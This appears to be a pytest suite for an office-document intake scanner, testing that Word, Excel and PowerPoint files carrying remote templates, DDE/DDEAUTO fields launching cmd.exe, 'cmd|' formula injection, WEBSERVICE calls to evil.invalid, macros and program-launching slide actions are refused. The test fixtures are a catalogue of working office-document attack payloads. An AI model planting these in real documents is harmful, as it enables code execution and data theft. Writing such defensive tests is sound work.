"""Office documents: what calls or starts something is refused, and what honest people write is not."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.workbook.defined_name import DefinedName

from models.reasons import Problem, Reason
from office.intake.contents import Contents
from office.intake.office_part import is_local
from office.settings import Settings
from tests.intake.hostile import Piece, archive

TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}


def looked_at(name: str, content: bytes, settings: Settings | None = None) -> Problem | None:
    look = Contents(settings or Settings()).look(name)
    look.feed(content)
    return look.problem()


def made(extension: str, **parts: str | bytes) -> bytes:
    held = {"[Content_Types].xml": "<Types/>", MAIN[extension]: "<w/>", **parts}
    return archive(
        [
            Piece(name, content.encode() if isinstance(content, str) else content)
            for name, content in held.items()
        ]
    )


def related(extension: str, kind: str, target: str, *, outside: bool = True, types: str = TYPE) -> bytes:
    """A document whose main part has one relationship."""
    folder, _, main = MAIN[extension].partition("/")
    mode = ' TargetMode="External"' if outside else ""
    return made(
        extension,
        **{
            f"{folder}/_rels/{main}.rels": f'<Relationships><Relationship Id="rId9" Type="{types}/{kind}" '
            f'Target="{target}"{mode}/></Relationships>'
        },
    )


def reason(name: str, content: bytes) -> Reason | None:
    problem = looked_at(name, content)
    return problem.reason if problem else None


# --- what a document calls


@pytest.mark.parametrize("types", [TYPE, STRICT])
@pytest.mark.parametrize("extension", MAIN)
@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "https://evil.invalid/x.dotm"),
        ("attachedTemplate", "file://///evil.invalid/share/x.dotm"),
        ("attachedTemplate", "file:///%5C%5Cevil.invalid%5Cshare%5Cx.dotm"),
        ("attachedTemplate", "\\\\evil.invalid\\share\\x.dotm"),
        ("oleObject", "https://evil.invalid/x.rtf"),
        ("frame", "https://evil.invalid/x.html"),
        ("subDocument", "file:///C:/other.docx"),
        ("image", "file://///evil.invalid/share/x.png"),
        ("image", "https://evil.invalid/seen.png"),
        ("externalLinkPath", "https://evil.invalid/x.xlsx"),
        ("video", "https://evil.invalid/x.mp4"),
        ("mailMergeSource", "file:///C:/list.xlsx"),
    ],
)
def test_what_is_called_from_outside_is_refused(extension: str, kind: str, target: str, types: str) -> None:
    assert reason(f"a.{extension}", related(extension, kind, target, types=types)) == Reason.ACTIVE_CONTENT


@pytest.mark.parametrize(
    ("extension", "kind", "target", "code"),
    [
        ("docx", "aFChunk", "chunk.mht", Reason.ACTIVE_CONTENT),
        ("docx", "subDocument", "other.docx", Reason.ACTIVE_CONTENT),
        ("docx", "frame", "frame.html", Reason.ACTIVE_CONTENT),
        ("pptx", "oleObject", "embeddings/harmless.dat", Reason.ACTIVE_CONTENT),
        ("xlsx", "externalLink", "renamed/link1.xml", Reason.ACTIVE_CONTENT),
        ("xlsx", "connections", "anywhere.xml", Reason.ACTIVE_CONTENT),
        ("docx", "vbaProject", "harmless.dat", Reason.MACRO),
        ("xlsx", "xlMacrosheet", "sheet1.xml", Reason.MACRO),
    ],
)
def test_what_acts_is_known_by_its_relationship_whatever_its_part_is_called(
    extension: str, kind: str, target: str, code: Reason
) -> None:
    assert reason(f"a.{extension}", related(extension, kind, target, outside=False)) == code


def test_the_sentence_names_what_is_called_and_says_what_to_do() -> None:
    problem = looked_at("a.docx", related("docx", "attachedTemplate", "https://evil.invalid/x.dotm"))
    assert str(problem.says if problem else "") == (
        "'a.docx' calls a template from another machine when it is opened ('https://evil.invalid/x.dotm'); "
        "attach the ordinary template in its place, or save it as PDF."
    )


@pytest.mark.parametrize(
    ("target", "local"),
    [
        ("file:///C:/Users/x/Templates/Report%20(new).dotx", True),
        ("file:///home/x/report.ott", True),
        ("file://localhost/Users/x/report.dotx", True),
        ("C:\\Templates\\Normal.dotm", True),
        ("Normal.dotm", True),
        ("file:///Z:/shared/report.dotx", True),
        ("https://evil.invalid/x", False),
        ("ftp://evil.invalid/x", False),
        ("mhtml:https://evil.invalid/x", False),
        ("//evil.invalid/x", False),
        ("file://evil.invalid/share/x", False),
        ("file:////evil.invalid/share/x", False),
        ("\\\\evil.invalid@SSL\\DavWWWRoot\\x", False),
        ("file:%2F%2Fevil.invalid/x", False),
    ],
)
def test_a_target_is_local_or_on_another_machine(target: str, local: bool) -> None:
    assert is_local(target) is local


def test_relationships_are_read_in_any_encoding_and_any_case_of_their_name() -> None:
    written = (
        f'<?xml version="1.0" encoding="utf-16"?><Relationships><Relationship Id="r" Type="{TYPE}/frame" '
        'Target="https://evil.invalid/" TargetMode="External"/></Relationships>'
    ).encode("utf-16")
    assert reason("a.docx", made("docx", **{"word/_rels/x.xml.RELS": written})) == Reason.ACTIVE_CONTENT


# --- what a document starts


def field(*runs: str) -> str:
    """A paragraph with a field whose instruction is written in these runs."""
    told = "".join(
        f"<w:r>{run if run[0] == '<' else f'<w:instrText>{run}</w:instrText>'}</w:r>" for run in runs
    )
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    shown = "<w:r><w:t>x</w:t></w:r>"
    return f"<w:p>{mark.format('begin')}{told}{mark.format('separate')}{shown}{mark.format('end')}</w:p>"


@pytest.mark.parametrize(
    "paragraph",
    [
        field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
        field("dde ", "excel x"),
        field(" D", "D", "EAUTO ", "cmd"),
        field(" ", "<w:t>DDEAUTO cmd</w:t>"),
        field(" &#68;DE cmd"),
        field(' IF 1 = 1 "', field("DDE cmd")),
        '<w:p><w:fldSimple w:instr=" DDEAUTO cmd "/></w:p>',
        field(field("QUOTE 68 68 69 65 85 84 79"), " cmd"),
        field(' INCLUDETEXT "https://evil.invalid/x.docx" '),
        field(' LINK Excel.Sheet.12 "\\\\\\\\evil.invalid\\\\x.xlsx" '),
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE cmd</w:instrText></w:r>',
    ],
)
def test_a_field_that_starts_or_fetches_something_is_refused(paragraph: str) -> None:
    for part in ("word/document.xml", "word/header1.xml", "word/footnotes.XML", "word/any.thing"):
        assert (
            reason("a.docx", made("docx", **{part: f"<w:body>{paragraph}</w:body>"})) == Reason.ACTIVE_CONTENT
        )


@pytest.mark.parametrize(
    "paragraph",
    [
        field(' TOC \\o "1-3" \\h ') + field(' HYPERLINK "https://example.invalid" '),
        field(" = ", field(" NUMPAGES "), " - 1 "),
        field(" PAGE ") + "<w:p><w:r><w:t>DDE is an old way of exchange.</w:t></w:r></w:p>",
        field(' INCLUDEPICTURE "https://example.invalid/pasted.png" \\* MERGEFORMATINET '),
        field(' LINK Excel.Sheet.12 "C:\\\\table.xlsx" '),
        '<w:p><w:fldSimple w:instr=" DATE \\@ &quot;d MMMM yyyy&quot; "/></w:p>',
        '<w:p><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    ],
)
def test_an_ordinary_field_is_none_of_them(paragraph: str) -> None:
    document = made("docx", **{"word/document.xml": f"<w:body>{paragraph}</w:body>"})
    assert reason("a.docx", document) is None


@pytest.mark.parametrize(
    ("part", "hostile"),
    [
        ("<f>cmd|'/C calc'!A0</f>", True),
        ("<f>1+<![CDATA[cmd|]]>'/C calc'!A0</f>", True),
        ('<f>DDE("soffice","x","y")</f>', True),
        ('<x:f>_xlfn.WEBSERVICE("https://evil.invalid/?"&amp;A1)</x:f>', True),
        ('<f>_xlfn.IMAGE("https://evil.invalid/seen.png")</f>', True),
        ('<definedName name="x">RTD("a","","b")</definedName>', True),
        ("<formula1>cmd|'x'!A0</formula1>", True),
        ('<f>IF(A1="cmd|x!y","a|b","c")</f>', False),
        ("<f>'a|b'!A1+SUM('a|b'!A2:A9)</f>", False),
        ('<f>HYPERLINK("https://example.invalid","x")</f>', False),
        ("<t>cmd|'/C calc'!A0</t>", False),
        ("<f>RECALL(1)</f>", False),
    ],
)
def test_a_formula_that_starts_or_fetches_something_is_refused(part: str, hostile: bool) -> None:
    sheet = made("xlsx", **{"xl/worksheets/sheet1.xml": f"<s>{part}</s>"})
    assert reason("a.xlsx", sheet) == (Reason.ACTIVE_CONTENT if hostile else None)


def test_an_action_that_starts_a_program_is_refused() -> None:
    for action, code in (("ppaction://program", Reason.ACTIVE_CONTENT), ("ppaction://hlinksldjump", None)):
        slide = f'<p:sld><a:hlinkMouseOver r:id="rId2" action="{action}"/></p:sld>'
        assert reason("a.pptx", made("pptx", **{"ppt/slides/slide1.xml": slide})) == code


def test_a_document_inside_a_document_is_no_better_than_it() -> None:
    inner = related("xlsx", "externalLinkPath", "https://evil.invalid/x.xlsx")
    assert reason("a.docx", made("docx", **{"word/embeddings/a.xlsx": inner})) == Reason.ACTIVE_CONTENT
    whole = made("docx")
    for depth in range(1, 5):
        whole = made("docx", **{"word/embeddings/a.docx": whole})
        assert reason("a.docx", whole) == (Reason.RATIO if depth > 3 else None)


def test_a_part_that_is_damaged_is_told_by_its_name() -> None:
    problem = looked_at("a.docx", made("docx", **{"word/_rels/settings.xml.rels": "<Relationships><a>"}))
    assert problem is not None
    assert problem.reason == Reason.NOT_XML
    assert "'word/_rels/settings.xml.rels' is not XML" in str(problem.says)


# --- what honest people write


def test_a_word_document_with_links_fields_and_a_local_template_is_taken_in(tmp_path: Path) -> None:
    document = Document()
    paragraph = document.add_paragraph("The protocol is at ")
    for target in (
        "https://example.invalid/protocol",
        "mailto:a@example.invalid",
        "file://office/share/x.docx",
    ):
        paragraph.part.relate_to(target, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    document.part._settings_part.relate_to(
        "file:///C:/Users/x/AppData/Roaming/Microsoft/Templates/Protocol.dotm",
        f"{TYPE}/attachedTemplate",
        is_external=True,
    )
    for mark in (field(' TOC \\o "1-3" '), field(" PAGE ")):
        document.element.body.insert(0, parse_xml(mark.replace("<w:p>", f"<w:p {nsdecls('w')}>", 1)))
    written = tmp_path / "a.docx"
    document.save(str(written))
    assert looked_at("a.docx", written.read_bytes()) is None
    counted = archive(
        [
            Piece("word/document2.xml" if p == "word/document.xml" else p, b"<w/>")
            for p in ("[Content_Types].xml", "word/document.xml")
        ]
    )
    assert looked_at("a.docx", counted) is None


def test_a_workbook_with_links_names_formulas_and_a_chart_is_taken_in_also_inside_a_document() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in range(1, 5):
        sheet.append([row, f"=A{row}*2", f'=IF(A{row}>2,"yes|no","b")'])
    sheet["E1"].hyperlink = "https://example.invalid/"
    book.defined_names["rows"] = DefinedName("rows", attr_text="Sheet!$A$1:$A$4")
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=1, min_row=1, max_row=4))
    sheet.add_chart(chart, "G1")
    held = io.BytesIO()
    book.save(held)
    assert looked_at("a.xlsx", held.getvalue()) is None
    inside = made("docx", **{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": held.getvalue()})
    assert looked_at("a.docx", inside) is None


def test_old_drawings_and_pictures_need_not_be_well_formed() -> None:
    parts = {
        "xl/drawings/vmlDrawing1.vml": "<xml><v:shape><div>note<br></div></v:shape></xml>",
        "xl/media/image1.svg": '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "x" "y"><svg/>',
        "xl/media/image2.png": b"\x89PNG\r\n\x1a\n" + bytes(40),
    }
    assert looked_at("a.xlsx", made("xlsx", **parts)) is None
